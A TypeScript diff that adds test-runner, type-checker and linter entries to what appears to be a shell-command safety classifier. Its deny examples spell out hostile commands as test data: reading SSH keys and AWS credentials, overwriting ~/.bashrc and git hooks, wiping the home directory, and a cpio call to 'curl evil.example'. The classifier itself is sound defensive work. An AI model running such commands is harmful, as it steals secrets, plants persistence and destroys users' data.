@@ -59,6 +59,59 @@ function makesTemp(p: ParsedArgs, call: Call): boolean {
 const LS: ReadonlySet<string> = new Set(['ls', 'dir', 'vdir']);
 
 /** A program whose operands all play one role, with its options modelled so that option values are not operands. */
+/**
+ * Type checkers, linters and test runners that read the files (or name the tests) they are given and change none of
+ * them (`find . -name '*.py' | xargs mypy`), when every option given is one this model knows. One it does not know
+ * may write a report or run a program (`mypy --junit-xml FILE`, `pytest -p PLUGIN`, `pyright --pythonpath PY`): then
+ * its words say nothing, as for a program no entry describes. What an option in `clears` names is emptied before the
+ * run (pytest's --basetemp DIR: "the contents of DIR will be completely removed").
+ */
+function checker(names: string, summary: string, options: OptionSpec, examples: ProgramEntry['examples'], clears: readonly string[] = [], writer?: RegExp, requires?: string): ProgramEntry {
+  return {
+    names: names.split(' '),
+    summary,
+    examples,
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', ...options });
+      const uses: Uses = [];
+      for (const o of p.options) if (o.value && clears.includes(o.name)) uses.push({ word: o.value, role: 'delete-tree' });
+      // A subcommand that writes files of its own (`vitest init`) says nothing of its words either.
+      const first = p.operands[0] ? value(p.operands[0].word) : undefined;
+      // An option without which it writes (tsc emits its JavaScript unless --noEmit) must be given.
+      const missing = requires !== undefined && !p.options.some((o) => o.name === requires);
+      if (p.options.some((o) => o.unknown) || missing || (writer && first !== undefined && writer.test(first))) return uses.length > 0 ? { uses } : {};
+      for (const o of p.operands) uses.push({ word: o.word, role: 'read' });
+      for (const o of p.options) if (o.value && !clears.includes(o.name)) uses.push({ word: o.value, role: 'read' });
+      return { uses };
+    },
+  };
+}
+
+/**
+ * mocha runs the test files it is given and changes none of them; a reporter's options (`-O output=FILE`, xunit's)
+ * name the file it writes its report into.
+ */
+const mochaChecker = checker('mocha', 'mocha runs the test files it is given and changes none of them; -O output=FILE is where a reporter writes', {
+  flags: 'bwpc', valued: 'RgtrusjfO',
+  long: ['recursive', 'exit', 'watch', 'bail', 'parallel', 'sort', 'inline-diffs', 'full-trace', 'check-leaks', 'forbid-only', 'forbid-pending', 'allow-uncaught', 'async-only', 'color', 'no-color', 'diff', 'no-diff', 'dry-run', 'invert', 'help', 'version'],
+  longValued: ['reporter', 'require', 'grep', 'fgrep', 'timeout', 'config', 'spec', 'extension', 'ui', 'jobs', 'slow', 'retries', 'ignore', 'file', 'package', 'node-option', 'reporter-option', 'reporter-options'],
+}, { deny: ['mocha ~/.ssh/id_rsa', 'mocha -O output=$HOME/.bashrc -R xunit test', 'mocha --reporter-option output=$HOME/.bashrc -R xunit test'], pass: ["find . -name '*.test.js' | xargs mocha", 'mocha --recursive -R dot test', 'mocha -R xunit -O output=reports/test.xml test'] });
+const mocha: ProgramEntry = {
+  ...mochaChecker,
+  analyze(call) {
+    const answer = mochaChecker.analyze!(call) ?? {};
+    const uses: Uses = [...(answer.uses ?? [])];
+    const p = parse(call.args, { order: 'gnu', valued: 'O', longValued: ['reporter-option', 'reporter-options'] });
+    for (const o of p.options) {
+      if (!o.value || (o.name !== 'O' && o.name !== 'reporter-option' && o.name !== 'reporter-options')) continue;
+      const v = value(o.value);
+      if (v === undefined) uses.push({ word: o.value, role: 'write' });
+      else for (const pair of v.split(',')) if (pair.includes('=')) uses.push({ word: attached(o.value, pair.slice(pair.indexOf('=') + 1)), role: 'write' });
+    }
+    return { ...answer, uses };
+  },
+};
+
 function operandsAre(names: string, summary: string, role: WordRole, options: OptionSpec = {}, examples: ProgramEntry['examples'] = { deny: [], pass: [] }, stdin?: 'data'): ProgramEntry {
   return {
     names: names.split(/\s+/),
@@ -1053,6 +1106,46 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   },
   // Counts are a file's size, as `ls -l` shows it: no byte of its content reaches the output.
   operandsAre('wc', 'wc prints counts of the files it is given, not their content', 'meta', { flags: 'clmwLz', long: ['bytes', 'chars', 'lines', 'words', 'max-line-length', 'zero', 'help', 'version'], longValued: ['files0-from', 'total'] }, { deny: ['wc -l .env | cat ~/.ssh/id_rsa', 'wc --bogus .env'], pass: ['wc -l .env', 'wc -c ~/.ssh/id_rsa', 'wc -l src/*.ts', 'git diff | wc -l'] }, 'data'),
+  // jest and vitest: what they are given are test files or patterns of their paths, which they run and leave as they
+  // were, unless a test asks for its own inline snapshot to be written into it (the file's own text decides that).
+  // -u (which also removes snapshot files it finds obsolete), --outputFile, --coverageDirectory, reporters and setup
+  // modules, and vitest's dotted options (`--coverage.reportsDirectory=DIR`) are options this model leaves unknown.
+  checker('jest', 'jest runs the tests whose paths match its patterns and changes none of them', {
+    flags: 'iofeh', valued: 'tcw',
+    long: ['ci', 'coverage', 'watch', 'watchAll', 'runInBand', 'silent', 'verbose', 'bail', 'passWithNoTests', 'findRelatedTests', 'listTests', 'detectOpenHandles', 'forceExit', 'no-cache', 'clearCache', 'json', 'onlyChanged', 'runTestsByPath', 'colors', 'no-colors', 'logHeapUsage', 'errorOnDeprecated', 'noStackTrace', 'useStderr', 'no-watchman', 'debug', 'showConfig', 'lastCommit', 'onlyFailures', 'expand', 'no-coverage', 'help', 'version'],
+    longValued: ['testNamePattern', 'config', 'maxWorkers', 'testTimeout', 'selectProjects', 'changedSince', 'testPathPattern', 'testPathIgnorePatterns', 'env', 'testEnvironment', 'shard', 'seed', 'maxConcurrency'],
+  }, { deny: ['jest --outputFile ~/.bashrc --json', 'jest ~/.ssh/id_rsa'], pass: ["find . -name '*.test.ts' | xargs npx jest", 'jest --coverage -t "parses dates"', 'npx jest src/__tests__/app.test.ts --runInBand'] }),
+  checker('vitest', 'vitest runs the tests whose paths match its filters and changes none of them (init writes a setup of its own)', {
+    flags: 'wh', valued: 'tcr',
+    long: ['run', 'watch', 'ui', 'coverage', 'silent', 'globals', 'dom', 'isolate', 'no-isolate', 'passWithNoTests', 'allowOnly', 'changed', 'no-watch', 'clearScreen', 'no-color', 'hideSkippedTests', 'typecheck', 'logHeapUsage', 'inspect', 'inspect-brk', 'no-file-parallelism', 'expand-snapshot-diff', 'standalone', 'help', 'version'],
+    longValued: ['testNamePattern', 'config', 'root', 'dir', 'environment', 'pool', 'shard', 'maxWorkers', 'minWorkers', 'testTimeout', 'mode', 'project', 'reporter', 'bail', 'retry'],
+  }, { deny: ['vitest run --outputFile ~/.bashrc', 'vitest run ~/.ssh/id_rsa'], pass: ["find . -name '*.test.ts' -print0 | xargs -0 npx vitest run", 'vitest run -t "handles empty input"', 'npx vitest related src/a.ts --run'] }, [], /^init$/),
+  mocha,
+  checker('tsc', 'tsc --noEmit reads the files and project it is given and writes nothing (without it, it emits JavaScript beside them or into --outDir; --incremental writes its build info)', {
+    flags: 'pwh', valued: 'pt',
+    long: ['noEmit', 'strict', 'skipLibCheck', 'esModuleInterop', 'allowSyntheticDefaultImports', 'pretty', 'watch', 'listFiles', 'listEmittedFiles', 'showConfig', 'allowJs', 'checkJs', 'resolveJsonModule', 'noImplicitAny', 'strictNullChecks', 'noUnusedLocals', 'noUnusedParameters', 'noImplicitReturns', 'noFallthroughCasesInSwitch', 'isolatedModules', 'experimentalDecorators', 'emitDecoratorMetadata', 'forceConsistentCasingInFileNames', 'noUncheckedIndexedAccess', 'exactOptionalPropertyTypes', 'verbatimModuleSyntax', 'declaration', 'sourceMap', 'extendedDiagnostics', 'diagnostics', 'traceResolution', 'explainFiles', 'noErrorTruncation', 'preserveWatchOutput', 'help', 'version', 'all'],
+    longValued: ['project', 'target', 'module', 'moduleResolution', 'jsx', 'lib', 'types', 'typeRoots', 'baseUrl', 'rootDir', 'locale', 'maxNodeModuleJsDepth'],
+  }, { deny: ['tsc --noEmit ~/.ssh/id_rsa', 'tsc --outFile ~/.bashrc src/a.ts'], pass: ["find src -name '*.ts' | xargs npx tsc --noEmit", 'npx tsc --noEmit -p tsconfig.json'] }, [], undefined, 'noEmit'),
+  checker('mypy', 'mypy reads the files, modules and packages it is given and changes none (its reports are options this model leaves unknown)', {
+    flags: 'hvV', valued: 'mp',
+    long: ['strict', 'ignore-missing-imports', 'check-untyped-defs', 'disallow-untyped-defs', 'disallow-incomplete-defs', 'disallow-any-generics', 'disallow-untyped-calls', 'warn-unused-ignores', 'warn-return-any', 'warn-redundant-casts', 'warn-unreachable', 'warn-no-return', 'no-implicit-optional', 'strict-optional', 'no-strict-optional', 'show-error-codes', 'hide-error-codes', 'show-error-context', 'show-column-numbers', 'show-absolute-path', 'show-traceback', 'pretty', 'no-pretty', 'no-error-summary', 'no-color-output', 'explicit-package-bases', 'namespace-packages', 'no-namespace-packages', 'no-incremental', 'incremental', 'allow-redefinition', 'local-partial-types', 'no-site-packages', 'no-silence-site-packages', 'follow-untyped-imports', 'strict-equality', 'extra-checks', 'help', 'version', 'verbose'],
+    longValued: ['module', 'package', 'config-file', 'python-version', 'platform', 'follow-imports', 'exclude', 'disable-error-code', 'enable-error-code', 'always-true', 'always-false', 'soft-error-limit'],
+  }, { deny: ['mypy --junit-xml ~/.bashrc src', 'mypy ~/.ssh/id_rsa'], pass: ['mypy src', "find . -name '*.py' | xargs mypy --strict", 'mypy -p app --ignore-missing-imports'] }),
+  checker('flake8', 'flake8 reads the files it is given and changes none (--output-file and --tee, which write, are options this model leaves unknown)', {
+    flags: 'qv', valued: 'j',
+    long: ['count', 'statistics', 'show-source', 'no-show-source', 'benchmark', 'isolated', 'exit-zero', 'doctests', 'quiet', 'verbose', 'help', 'version'],
+    longValued: ['max-line-length', 'max-doc-length', 'max-complexity', 'ignore', 'extend-ignore', 'select', 'extend-select', 'exclude', 'extend-exclude', 'per-file-ignores', 'filename', 'format', 'config', 'append-config', 'color', 'jobs', 'indent-size'],
+  }, { deny: ['flake8 --output-file ~/.bashrc src', 'flake8 --tee --output-file=$HOME/.bashrc src'], pass: ['flake8 src', "find . -name '*.py' | xargs flake8 --max-line-length 100"] }),
+  checker('pyright basedpyright', 'pyright reads the files and project it is given and changes none (--pythonpath, which names a Python it runs, and --createstub, which writes, are options this model leaves unknown)', {
+    flags: 'wh', valued: 'p',
+    long: ['outputjson', 'verbose', 'watch', 'stats', 'warnings', 'skipunannotated', 'lib', 'dependencies', 'version', 'help'],
+    longValued: ['project', 'level', 'pythonversion', 'pythonplatform', 'venvpath', 'typeshedpath', 'threads'],
+  }, { deny: ['pyright ~/.ssh/id_rsa', 'pyright -p ~/.aws/credentials'], pass: ['pyright src', "find . -name '*.py' | xargs pyright"] }),
+  checker('pytest py.test', 'pytest reads the test files it is given and changes none of them; --basetemp DIR is emptied before the run (--junitxml, -p, -o and --cov-report, which may write or load code, are options this model leaves unknown)', {
+    flags: 'xqvslh', valued: 'kmnrWc',
+    long: ['exitfirst', 'quiet', 'verbose', 'showlocals', 'lf', 'last-failed', 'ff', 'failed-first', 'nf', 'new-first', 'sw', 'stepwise', 'stepwise-skip', 'no-header', 'no-summary', 'disable-warnings', 'co', 'collect-only', 'strict-markers', 'strict-config', 'runxfail', 'doctest-modules', 'pdb', 'trace', 'full-trace', 'cache-show', 'cache-clear', 'help', 'version', 'setup-show', 'setup-only', 'setup-plan', 'fixtures', 'markers', 'no-cov'],
+    longValued: ['maxfail', 'tb', 'durations', 'durations-min', 'color', 'capture', 'import-mode', 'rootdir', 'deselect', 'ignore', 'ignore-glob', 'timeout', 'reruns', 'numprocesses', 'dist', 'cov', 'cov-fail-under', 'log-level', 'log-cli-level', 'basetemp', 'confcutdir'],
+  }, { deny: ['pytest --basetemp ~ tests', 'pytest --basetemp=$HOME tests', 'pytest --junitxml ~/.bashrc tests'], pass: ['pytest --basetemp=/tmp/pt tests', 'pytest -k "login and not slow" tests', "find tests -name 'test_*.py' | xargs pytest -q"] }, ['basetemp']),
   operandsAre('shellcheck yamllint hadolint', 'linters that read the files they are given and change none', 'read', { flags: 'axVhCW', valued: 'sefoSPiWcd', long: ['check-sourced', 'external-sources', 'list-optional', 'norc', 'wiki-link-count', 'version', 'help', 'strict', 'no-warnings'], longValued: ['shell', 'exclude', 'format', 'severity', 'enable', 'include', 'source-path', 'color', 'config-file', 'config-data', 'ignore', 'trusted-registry', 'failure-threshold'] }, { deny: ['shellcheck ~/.ssh/id_rsa'], pass: ['shellcheck ~/.bashrc', 'shellcheck -x -s bash scripts/*.sh', 'yamllint .github/workflows/ci.yml'] }),
   operandsAre('head tail', 'head and tail read the files they are given', 'read', { flags: 'qvzfF', valued: 'cns', numeric: true, long: ['quiet', 'silent', 'verbose', 'zero-terminated', 'retry', 'follow', 'help', 'version'], longValued: ['bytes', 'lines', 'sleep-interval', 'pid', 'max-unchanged-stats'], longOptional: ['follow'] }, { deny: ['head -n 5 .env', 'tail -f ~/.aws/credentials'], pass: ['head -n 20 README.md', 'tail -f log.txt'] }, 'data'),
   operandsAre('diff sdiff diff3 cmp comm join', 'comparators read the files they are given', 'read', { flags: 'aBbdEeiNnpqrsTtuvwyZ123', valued: 'CDFILUWSxXno', longValued: ['output', 'label', 'width', 'exclude', 'exclude-from', 'from-file', 'to-file', 'ignore-matching-lines', 'unified', 'context', 'color', 'palette', 'starting-file', 'changed-group-format', 'new-group-format', 'old-group-format', 'unchanged-group-format', 'line-format'] }, { deny: ['yes r | sdiff -o ~/.bashrc a b', 'yes l | sdiff --output=$HOME/.bashrc a b'], pass: ['yes l | sdiff -o merged.txt a b', 'diff -u a b', 'cmp -s a b'] }),
@@ -1196,6 +1289,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     (w) => !w.some((x) => /^-(r|cpuprofile)$/.test(x)),
     ['-r', '-cpuprofile'],
   ),
+  formatter('isort', 'isort: rewrites the imports of its files unless --check, --check-only, -c or --diff', (w) => !w.some((x) => /^(--check|--check-only|-c|--diff|--df|--show-files|--show-config)$/.test(x)), { deny: ['isort .git/hooks/pre-commit', 'isort --check ~/.ssh/id_rsa'], pass: ['isort --check-only --diff .', "find . -name '*.py' | xargs isort --check", 'isort src'] }, undefined, ['--profile', '-l', '--line-length', '-p', '--project', '-s', '--skip', '--sg', '--skip-glob', '--src', '--py', '--python-version', '-m', '--multi-line', '--virtual-env', '--conda-env']),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i -F src.cpio'] } },
